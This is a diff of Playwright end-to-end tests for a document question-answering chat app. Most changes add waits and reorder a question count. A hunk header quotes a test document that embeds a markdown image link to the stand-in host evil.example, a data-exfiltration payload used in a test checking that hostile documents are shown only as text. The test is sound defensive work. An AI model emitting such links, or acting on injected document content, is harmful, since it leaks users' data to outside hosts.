@@ -37,9 +37,9 @@ The tariff of the harbour is 40 crowns a day. ![receipt](http://evil.example/q.p
 
 def ask(page: Page, question: str) -> Locator:
     """Ask and wait for the answer's last line; gives the answer's message."""
-    asked = page.locator(".q-question").count()
     box = page.get_by_label("Ask about your documents")
     expect(box).to_be_enabled()
+    asked = page.locator(".q-question").count()
     box.fill(question)
     box.press("Enter")
     message = page.get_by_test_id("stChatMessage").nth(2 * asked + 1)
@@ -197,6 +197,7 @@ def test_the_whole_story_from_an_empty_library_to_an_empty_library(
     expect(page.get_by_text("No documents yet.")).to_be_visible()
 
     go(page, "Chat")
+    expect(page.locator(".q-question")).to_have_count(2)
     gone = ask(page, "How long does the warranty of the Borealis kettle last?")
     expect(gone.locator(".q-refusal")).to_be_visible()
 
@@ -208,6 +209,7 @@ def test_a_hostile_document_is_only_ever_text(page: Page, address: str, tmp_path
     upload(page, tariffs)
     expect(page.locator(".q-outcomes")).to_contain_text("added")
     go(page, "Chat")
+    expect(page.get_by_text("What would you like to know?")).to_be_visible()
     answered = ask(page, "What is the tariff of the harbour?")
     expect(answered.locator(".q-answer")).to_contain_text("40 crowns")
     answered.get_by_role("button", name="Read", exact=True).first.click()
